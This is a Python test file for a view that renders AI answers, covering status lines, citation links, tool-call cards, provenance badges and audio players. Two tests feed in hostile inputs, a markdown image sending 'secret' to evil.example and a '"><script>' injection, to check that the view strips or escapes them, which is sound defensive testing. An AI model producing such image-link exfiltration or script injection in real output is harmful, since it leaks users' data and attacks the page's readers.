from collections.abc import Sequence

import pytest
from pydantic import BaseModel

from jobs.answering.events import (
    Called,
    Calling,
    Delta,
    Failed,
    Finished,
    MissingPart,
    Retrieved,
    Started,
    Stopped,
)
from storage.comparisons import KeptEvent
from storage.records import AnswerState, Column, Passage, ToolCall
from studio.views import answers as view

COLUMN = Column("documents", "documents")
RETURNS = Passage("p1", "d1", "Returns.md", 10, 40, "Within 14 days.", page=2, score=0.71)
NEAR = Passage("p2", "d1", "Returns.md", 50, 60, "Opened tubes.", score=0.31)
FOUND = Retrieved(passages=(RETURNS,), nearest=(NEAR,), threshold=0.35, index_version=12)
CALL = ToolCall("look_up_orders", {"order": "10442"}, "delivered: 9 November", None, 0.4)
TOLD = {"base_id": "starter", "base_sha256": "b179" + "0" * 56 + "db53"}


def kept(*events: BaseModel) -> list[KeptEvent]:
    return [KeptEvent(1, nr, "", event.model_dump(mode="json"), 100.0 + nr) for nr, event in enumerate(events)]


def standing(*events: BaseModel) -> view.Standing:
    return view.standing(kept(*events))


@pytest.mark.parametrize(
    ("events", "said"),
    [
        ([], "◌ Waiting for its turn…"),
        ([Started(phase="search")], "● Looking in your documents…"),
        ([Started(phase="choose")], "● Choosing a tool…"),
        ([Calling(call=CALL)], "● Asking Look up orders…"),
        ([Started(phase="write"), Delta(text="It ")], "● Writing… 9 s"),
        ([Finished(text="It is.", seconds=2.84, tokens=39)], "✓ 2.8 s · 39 tokens"),
        ([Stopped()], "✕ Stopped before its end"),
        ([Failed(text="No server", next_step="Press Again.")], "✕ No answer"),
        ([MissingPart(what="There is not yet a model.", where="/train")], "◌ Not ready yet"),
    ],
)
def test_a_column_always_says_where_it_is(events: Sequence[BaseModel], said: str) -> None:
    assert view.status(standing(*events), 109.0) == said


def test_the_text_grows_with_its_pieces_and_the_last_event_has_the_whole_of_it() -> None:
    writing = standing(Started(phase="write"), Delta(text="With"), Delta(text="in 14"))
    assert writing.text == "Within 14"
    assert not writing.state.final
    done = standing(Delta(text="With"), Finished(text="Within 14 days.", seconds=1, tokens=4))
    assert (done.text, done.state) == ("Within 14 days.", AnswerState.FINISHED)
    assert standing(Delta(text="With"), Stopped()).text == "With"


def test_only_marks_of_sources_that_are_there_become_links() -> None:
    now = standing(FOUND, Finished(text="In 14 days [1]. Or [2]. See [0].", seconds=1, tokens=9))
    assert view.text(now, COLUMN) == "In 14 days [[1]](#cite-documents-1). Or [2]. See [0]."


def test_a_missing_part_is_a_sentence_with_a_link() -> None:
    now = standing(MissingPart(what="There is not yet a model trained on your examples.", where="/train"))
    assert view.text(now, COLUMN) == "There is not yet a model trained on your examples. [Train one](/train)"


def test_a_part_that_is_being_made_says_for_how_long_still() -> None:
    part = MissingPart(what="There is not yet a model.", where="/train", coming=True, seconds_left=140.0)
    said = "There is not yet a model. Being made now, ready in about 2 minutes."
    assert view.text(standing(part), COLUMN) == f"{said} [See how it goes](/train)"
    unknown = view.lacking(part.model_copy(update={"seconds_left": None}))
    assert "ready in a few minutes" in view.text(unknown, COLUMN)


def test_a_failure_says_that_the_others_are_not_affected() -> None:
    now = standing(Failed(text="The model server is not running", next_step="Press Again."))
    assert view.text(now, COLUMN) == ("The model server is not running. The others are not affected. Press Again.")


def test_what_had_been_written_stays_above_what_broke_it_off() -> None:
    gone = Failed(text="The model server does not answer", next_step="Press Again.")
    failed = standing(Delta(text="Within *14*"), gone)
    assert view.status(failed, 109.0) == "✕ Broke off in the middle"
    said = "The model server does not answer. The others are not affected. Press Again."
    assert view.text(failed, COLUMN) == f"Within *14*\n\n{said}"
    ended = standing(Delta(text="Within"), Stopped(why="The studio was ended in the middle of this answer."))
    assert view.status(ended, 109.0) == "✕ Broke off in the middle"
    assert view.text(ended, COLUMN) == "Within\n\nThe studio was ended in the middle of this answer. Press Again."


def test_a_model_can_neither_link_nor_show_pictures() -> None:
    now = standing(Finished(text="![x](http://evil.example/?q=secret)", seconds=1, tokens=1))
    assert "](http" not in view.text(now, COLUMN)


def test_a_source_is_named_with_its_page() -> None:
    assert view.source_label(1, RETURNS) == "1 Returns.md, p. 2"
    assert view.source_label(2, NEAR) == "2 Returns.md"
    assert view.source_id("documents", 1) == "cite-documents-1"


def test_a_call_shows_what_was_asked_and_what_came_back_word_for_word() -> None:
    assert view.call_label(CALL) == "✓ Look up orders"
    body = view.call_body(CALL)
    assert '"order": "10442"' in body
    assert "Came back after 0.4 s\n\n```\ndelivered: 9 November\n```" in body
    failed = ToolCall("ask_the_courier", {}, None, "No answer within ``` 5 s.", 5.0)
    assert view.call_label(failed) == "✕ Ask the courier (failed)"
    assert "````\nNo answer within ``` 5 s.\n````" in view.call_body(failed)


def test_calls_beyond_the_cards_are_counted() -> None:
    assert view.more_calls([CALL] * 3) == ""
    assert view.more_calls([CALL] * 5) == "and 2 more calls, listed under Evidence"


@pytest.mark.parametrize(
    ("told", "said"),
    [
        (TOLD, "`b179…db53`"),
        ({**TOLD, "adapter_sha256": "a41f" + "1" * 56 + "09c2"}, "`Returns tone · a41f…09c2`"),
        ({}, "`not reported`"),
        ({"prompt": "none"}, "`no model needed`"),
    ],
)
def test_the_badge_says_what_the_server_reported(told: dict[str, str], said: str) -> None:
    now = standing(Finished(text="x", seconds=1, tokens=1, provenance=told))
    assert view.badge(now, "Returns tone") == said


def test_the_badge_counts_passages_and_calls() -> None:
    now = standing(FOUND, Called(call=CALL), Finished(text="x", seconds=1, tokens=1, provenance=TOLD))
    assert view.badge(now) == "`b179…db53 · 1 passage · index 12 · 1 call`"
    assert view.badge(standing(FOUND)) == ""


def test_a_call_that_spoke_has_a_player_and_one_that_failed_has_none() -> None:
    said = {"text": '"><script>', "language": "English"}
    spoke = Called(call=ToolCall("read_aloud", said, "1.0 seconds of sound in English."))
    failed = Called(call=ToolCall("read_aloud", {"text": "b"}, None, "Nothing here can speak."))
    text = view.text(standing(spoke, failed, Called(call=ToolCall("calculator", {}, "2")), Delta(text="Done.")), COLUMN)
    assert text.startswith("Done.\n\n<audio controls ")
    assert text.count("<audio") == 1
    assert "script" not in text
